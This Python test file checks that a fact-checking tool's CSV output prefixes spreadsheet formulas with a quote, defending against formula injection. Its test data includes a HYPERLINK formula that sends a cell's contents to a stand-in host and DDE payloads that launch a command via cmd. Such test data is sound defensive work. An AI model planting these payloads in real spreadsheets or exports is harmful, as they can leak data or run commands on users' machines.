"""CSV outputs escape cells a spreadsheet would run as a formula (issue 14)."""

from __future__ import annotations

import csv
import io

import pytest

from frontcheck.cli.output import csv_cell
from tests.cli.test_control_cli import frontcheck

FORMULAS = ["=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "=cmd|' /C calc'!A0",
            "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("value", FORMULAS)
def test_a_formula_cell_is_escaped(value):
    assert csv_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Pokrovsk", "", "12.5", "-3.25", "2025-01-01", "a=b"])
def test_plain_cells_and_numbers_are_kept(value):
    assert csv_cell(value) == value


def test_sources_and_claims_lists_escape_formulas(tmp_path):
    statements = tmp_path / "statements.csv"
    statements.write_text(
        "statement_id,published_at,text,publisher,speaker\n"
        's1,2025-01-06T10:00:00+03:00,"=HYPERLINK(""http://x.example"",""Russian forces captured '
        'Pokrovsk"")",@SUM(1+1),=cmd|\' /C calc\'!A0\n', encoding="utf-8")
    db = tmp_path / "store.sqlite"
    ingest = frontcheck("sources", "ingest", statements, "--db", db)
    assert ingest.returncode == 0, ingest.stderr
    listed = frontcheck("sources", "list", "--format", "csv", "--db", db)
    assert listed.returncode == 0, listed.stderr
    rows = list(csv.DictReader(io.StringIO(listed.stdout)))
    cells = [v for row in rows for v in row.values() if v]
    assert cells and not any(v[0] in "=+@" for v in cells), cells
    assert any(v.startswith("'=HYPERLINK(") for v in cells)
    assert any(v == "'@SUM(1+1)" for v in cells)
